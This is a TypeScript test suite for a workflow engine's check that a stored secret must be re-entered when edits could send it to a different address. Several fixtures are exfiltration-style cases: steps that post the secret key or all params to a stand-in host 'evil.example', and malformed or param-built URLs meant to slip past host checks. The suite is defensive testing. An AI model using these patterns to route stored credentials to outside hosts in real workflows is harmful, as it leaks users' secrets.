import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { movedSecrets } from "../../src/domain/workflow/secrets/moved-secrets.ts";
import { HIDDEN, SEALED_MARK } from "../../src/domain/text/sealed-text.ts";

const SEALED = `${SEALED_MARK}AAAA`;
const SCHEMA = {
  type: "object",
  properties: { key: { type: "string", writeOnly: true }, url: { type: "string" }, query: { type: "string" } },
};
const step = (name: string, params: object) => ({ name, task_type: "webhook", params });
const call = (params: object = {}) =>
  step("call", { url: "${{ params.url }}", headers: { authorization: "${{ params.key }}" }, ...params });
const workflow = (...steps: object[]) => ({ name: "w", params: SCHEMA, steps });
const stored = { key: SEALED, url: "https://a.example/hook", query: "shoes" };
const before = { definition: workflow(call(), step("other", { url: "https://c.example/" })), params: stored };

const movedBy = (definition: object, params: object = stored) =>
  movedSecrets(before, { definition, params: params as never }).map(({ path }) => path);

describe("a stored secret of a workflow is kept", () => {
  test("while the steps that use it stay the same, whatever becomes of others", () => {
    assert.deepEqual(movedBy(before.definition), []);
    assert.deepEqual(movedBy(workflow(call())), []);
    assert.deepEqual(movedBy(workflow(call(), step("new", { url: "https://evil.example/" }))), []);
    assert.deepEqual(movedBy(before.definition, { ...stored, query: "boots" }), []);
    assert.deepEqual(movedBy(before.definition, { ...stored, url: "https://a.example/another" }), []);
  });

  test("and must be sent again when a step with it is new or another", () => {
    const { definition } = before;
    const steps = [
      [call({ method: "PUT" })],
      [call({ url: "https://evil.example/" })],
      [call(), step("new", { url: "https://evil.example/", body: { key: "${{ params.key }}" } })],
      [call(), step("new", { url: "https://evil.example/", body: "${{ params }}" })],
      [call(), step("new", { url: "https://evil.example/", body: "${{ params['key'] }}" })],
      [call(), { ...step("other", { url: "https://c.example/" }), when: '${{ params.key == "x" }}' }],
    ];
    for (const changed of steps) {
      assert.deepEqual(movedBy(workflow(...changed)), ["key"], JSON.stringify(changed));
      assert.deepEqual(movedBy(workflow(...changed), { ...stored, key: HIDDEN }), ["key"]);
      assert.deepEqual(movedBy(workflow(...changed), { ...stored, key: "sent again" }), []);
    }
    assert.deepEqual(
      movedSecrets({ definition: null, params: stored }, { definition, params: stored }).map(({ path }) => path),
      ["key"],
    );
  });

  test("and must be sent again when a param leads its step to another address", () => {
    const url = "https://evil.example/";
    assert.deepEqual(movedBy(before.definition, { ...stored, url }), ["url"]);
    assert.deepEqual(movedBy(before.definition, { ...stored, url, key: "sent again" }), []);
    const byHost = workflow(step("call", { url: "https://${{ params.query }}.example/", headers: { key: SEALED } }));
    const changed = (query: string) =>
      movedSecrets({ definition: byHost, params: stored }, { definition: byHost, params: { ...stored, query } });
    assert.deepEqual([changed("shoes"), changed("evil").map(({ path }) => path)], [[], ["query"]]);
    // A proxy gets its own credentials, wherever the page is.
    const proxied = workflow(step("read", { url: "${{ params.url }}", proxy: SEALED }));
    assert.deepEqual(
      movedSecrets({ definition: proxied, params: stored }, { definition: proxied, params: { ...stored, url } }),
      [],
    );
  });

  test("and must be sent again when an address is written, computed or found differently", () => {
    const moved = (steps: readonly object[], change: object, properties: object = SCHEMA.properties) => {
      const definition = { name: "w", params: { type: "object", properties }, steps };
      const old = { definition: { ...definition, params: SCHEMA }, params: stored };
      return movedSecrets(old, { definition, params: { ...stored, ...change } as never }).map(({ path }) => path);
    };
    for (const url of [
      "https:evil.example/",
      "https:/evil.example/",
      "https:\\\\evil.example",
      "//evil.example/",
      " HTTPS:evil.example",
    ])
      assert.deepEqual(moved([call()], { url }), ["url"], url);
    for (const url of [
      "${{ 'https://' + params.query }}",
      "${{ params.query }}/path",
      "${{ params.query }}://a.example/",
    ])
      assert.deepEqual(moved([call({ url })], { query: "evil" }), ["query"], url);
    assert.deepEqual(moved([call({ body: "${{ params.query }} shoes" })], { query: "evil" }), []);

    const list = { ...step("list", { url: "${{ params.url }}" }), task_type: "scrape" };
    const get = { ...step("get", { field: "url", headers: { key: SEALED } }), task_type: "scrape" };
    const url = "https://evil.example/";
    assert.deepEqual(moved([list, get], { url }), ["url"], "the page whose links get the header");
    assert.deepEqual(moved([list, step("get", { url: "https://a.example/", headers: { key: SEALED } })], { url }), []);
    const ofStep = step("get", { url: "${{ steps.list.output.next }}", headers: { key: "${{ params.key }}" } });
    assert.deepEqual(moved([list, ofStep], { url }), ["url"]);

    const { url: _, ...others } = stored;
    const withDefault = (address: string) => ({
      definition: {
        ...workflow(call()),
        params: { ...SCHEMA, properties: { ...SCHEMA.properties, url: { type: "string", default: address } } },
      },
      params: others,
    });
    const [old, now] = [withDefault("https://a.example/"), withDefault(url)];
    assert.deepEqual([movedSecrets(old, old), movedSecrets(old, now).map(({ path }) => path)], [[], ["url"]]);
  });

  test("and must be sent again when the way to another address takes several changes", () => {
    const url = "https://evil.example/";
    // An address that another part of the workflow has is none that the secret was given for.
    const planted = { definition: workflow(call(), step("new", { url })), params: { ...stored, query: url } };
    assert.deepEqual(
      movedSecrets(planted, { ...planted, params: { ...planted.params, url } }).map(({ path }) => path),
      ["url"],
    );
    const signed = { definition: workflow(call()), params: { ...stored, url: `https://${SEALED}@a.example/` } };
    const asked = { ...signed, params: { ...stored, url: `${url}?x=https://${HIDDEN}@a.example/` } };
    assert.deepEqual(
      movedSecrets(signed, asked).map(({ path }) => path),
      ["url"],
    );
    const next = step("get", { url: "${{ steps.list.output.next }}", headers: { key: SEALED } });
    const found = (address: string) => ({ definition: workflow(step("list", { url: address }), next), params: stored });
    assert.deepEqual(
      movedSecrets(found("https://a.example/"), found(url)).map(({ part, path }) => [part, path]),
      [["definition", "steps[1].params"]],
    );
    const joined = step("call", { url: "${{ params.url }}${{ params.query }}", headers: { key: SEALED } });
    const at = (query: string) => ({
      definition: workflow(joined),
      params: { ...stored, url: "https://a.example", query },
    });
    assert.deepEqual(
      movedSecrets(at("/x"), at(".evil.example/x")).map(({ path }) => path),
      ["query"],
    );
  });

  test("while what changes is a path, a query or a text of the request", () => {
    const kept = (url: string, more: object = {}) => {
      const definition = workflow(
        step("list", { url: "https://a.example/" }),
        step("call", { url, headers: { key: SEALED }, ...more }),
      );
      const at = (query: string, first: object[] = []) => ({
        definition: { ...definition, steps: [...first, ...definition.steps.slice(first.length)] },
        params: { ...stored, query },
      });
      return [
        movedSecrets(at("/x"), at("/y")),
        movedSecrets(at("/x"), at("/x", [step("list", { url: "https://b.example/" })])),
      ];
    };
    for (const url of [
      "https://a.example${{ params.query }}",
      "https://a.example/${{ params.item }}?q=${{ params.query }}&n=${{ steps.list.output.count }}",
    ])
      assert.deepEqual(kept(url), [[], []], url);
    const body = { note: "see ${{ params.query }}", list: "${{ steps.list.output }}" };
    assert.deepEqual(kept("https://a.example/", { body }), [[], []]);
    const linked = { definition: workflow(call({ body: "${{ params.query }}" })), params: stored };
    assert.deepEqual(movedSecrets(linked, { ...linked, params: { ...stored, query: "https://b.example/" } }), []);
  });

  test("and is looked for in a time that grows with the workflow alone", () => {
    const long = "a".repeat(400_000);
    const steps = Array.from({ length: 300 }, (_, index) => ({ ...step(`get ${index}`, {}), task_type: "scrape" }));
    const many = workflow(call(), ...steps);
    const urls = Array.from({ length: 20_000 }, (_, index) => `https://a.example/${index}`);
    const at = (more: object) => ({ definition: many, params: { ...stored, query: long, urls, ...more } });
    assert.deepEqual(movedSecrets(at({}), at({ urls: [...urls, "https://a.example/more"] })), []);
  });

  test("whatever stands beside it: other steps before its own, stars in other texts", () => {
    const before = { ...call(), dependencies: [0] };
    const after = { ...call(), dependencies: [1] };
    const start = step("start", {});
    const at = (...steps: object[]) => ({ definition: workflow(...steps), params: stored });
    assert.deepEqual(movedSecrets(at(start, before), at(step("new", {}), start, after)), []);
    const stars = { ...stored, query: "*** bold ***" };
    const other = workflow(call(), step("other", { body: "${{ params.query }}", method: "PUT" }));
    assert.deepEqual(movedBy(other, stars), []);
    assert.deepEqual(movedBy(other, { ...stored, query: HIDDEN }), [], "there was no secret");
  });

  test("and the default of a param as well", () => {
    const withDefault = (...steps: object[]) => ({
      ...workflow(...steps),
      params: { type: "object", properties: { key: { type: "string", writeOnly: true, default: HIDDEN } } },
    });
    const old = { definition: withDefault(call()), params: {} };
    const after = (...steps: object[]) => movedSecrets(old, { definition: withDefault(...steps), params: {} });
    assert.deepEqual(after(call()), []);
    assert.deepEqual(
      after(call({ url: "https://evil.example/" })).map(({ path }) => path),
      ["key"],
    );
  });
});
